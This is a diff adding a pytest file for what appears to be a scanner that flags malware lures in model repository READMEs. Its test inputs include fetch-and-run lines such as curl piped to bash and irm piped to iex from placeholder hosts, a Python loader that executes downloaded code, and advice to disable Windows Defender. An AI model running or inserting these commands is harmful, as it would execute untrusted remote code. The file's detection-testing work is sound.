@@ -1,0 +1,107 @@
+import pytest
+
+from tests.builders import days_ago, make_info, make_publisher, make_snapshot
+from tests.inspected import found, repository, severities
+from trustaudit.formats.dispatch import inspect_file
+from trustaudit.formats.drivers import inspect_bytes
+
+WEIGHTS = ("model.safetensors",)
+
+
+@pytest.mark.parametrize(
+    ("text", "severity"),
+    [
+        ("```bash\ncurl -s http://198.51.101.7/setup | bash\n```", "high"),
+        ("Run `irm https://bit.ly/x | iex` in a terminal.", "high"),
+        ("Get it: https://mega.nz/file/setup.exe", "high"),
+        ("[download](https://drive.google.com/uc/models.zip)", "medium"),
+        ("Turn off Windows Defender before you start.", "medium"),
+        ("Click *More info*, then *Run anyway*.", "medium"),
+    ],
+)
+def test_lures(text: str, severity: str) -> None:
+    assert severities("card-lure", repository({"README.md": f"# Model\n{text}\n"}, listed=WEIGHTS))[0] == severity
+
+
+def test_the_trap_of_may_2026() -> None:
+    """Open-OSS/privacy-filter: clean weights, and a batch file that starts a loader that fetches a program."""
+    files = {
+        "README.md": "# Privacy filter\nOn Windows run `start.bat`.\n",
+        "start.bat": "@echo off\r\npython loader.py\r\n",
+        "loader.py": "import requests\ndef main():\n    exec(requests.get('http://host.invalid/u').text)\nmain()\n",
+    }
+    snapshot = repository(files, listed=WEIGHTS)
+    (finding, *_) = found("card-lure", snapshot)
+    assert (finding.severity, finding.confidence) == ("high", "medium")
+    assert severities("code-download-execute", snapshot) == ["critical"]
+
+
+@pytest.mark.parametrize(
+    ("script", "expected"),
+    [("exec(__import__('requests').get('http://a.invalid').text)\n", ["high"]), ("print('hello')\n", [])],
+)
+def test_a_script_weighs_what_it_does(script: str, expected: list[str]) -> None:
+    files = {"README.md": "```\npython demo.py\n```\n", "demo.py": script}
+    assert severities("card-lure", repository(files, listed=WEIGHTS)) == expected
+
+
+def test_programs_that_lie_there() -> None:
+    snapshot = repository({"README.md": "Double-click `setup.exe` to install.\n"}, listed=("setup.exe", *WEIGHTS))
+    assert severities("card-lure", snapshot) == ["high"]
+    assert found("card-lure", repository({"README.md": "Double-click `setup.exe`.\n"}, listed=WEIGHTS)) == []
+
+
+def test_an_archive_with_a_password() -> None:
+    text = "Extract the zip with the password: 1234\n"
+    assert severities("card-lure", repository({"README.md": text}, listed=("model.7z",))) == ["high"]
+    assert severities("card-lure", repository({"README.md": text}, listed=WEIGHTS)) == ["low"]
+
+
+def test_weights_that_are_elsewhere() -> None:
+    text = "Weights: https://pan.baidu.com/s/1abc\n"
+    assert severities("card-lure", repository({"README.md": text})) == ["medium"]
+    assert found("card-lure", repository({"README.md": text}, listed=WEIGHTS)) == []
+
+
+def test_official_says_who() -> None:
+    card = inspect_bytes(inspect_file, b"This is the official release of the model.\n", "README.md")
+    new = make_publisher(verified=False, created_at=days_ago(2))
+    assert severities("card-lure", make_snapshot(file_facts=(card,), publisher=new)) == ["medium"]
+    assert found("card-lure", make_snapshot(file_facts=(card,), info=make_info())) == []
+
+
+HONEST = """---
+license: mit
+---
+# Model card
+<a href="https://colab.research.google.com/x"><img src="https://colab.research.google.com/assets/colab-badge.svg"></a>
+```python
+from transformers import AutoModel
+model = AutoModel.from_pretrained("org/model", trust_remote_code=True)
+```
+```bash
+pip install -U transformers accelerate
+git clone https://github.com/ggml-org/llama.cpp && cd llama.cpp && cmake -B build && cmake --build build
+./build/bin/llama-cli -m model.gguf -p "Hello"
+curl -L -o cat.png https://example.com/cat.png
+wget https://huggingface.co/org/model/resolve/main/model.safetensors
+curl -fsSL https://ollama.com/install.sh | sh
+python -m vllm.entrypoints.openai.api_server --model org/model
+```
+Windows users get the [release](https://github.com/LostRuins/koboldcpp/releases/download/v1/koboldcpp.exe).
+The password hashing dataset is not included. See the official documentation.
+"""
+
+
+def test_an_honest_card() -> None:
+    assert found("card-lure", repository({"README.md": HONEST}, listed=WEIGHTS)) == []
+
+
+def test_other_markdown_weighs_less() -> None:
+    files = {"docs/setup.md": "curl -s http://198.51.101.7/setup | bash\n"}
+    assert severities("card-lure", repository(files, listed=WEIGHTS)) == ["medium"]
+
+
+def test_long_and_broken_cards_are_read() -> None:
+    text = "word " * 40_000 + "\ncurl -s http://198.51.101.7/a | bash\n" + "```" * 1000 + "\xff"
+    assert severities("card-lure", repository({"README.md": text}, listed=WEIGHTS)) == ["high"]
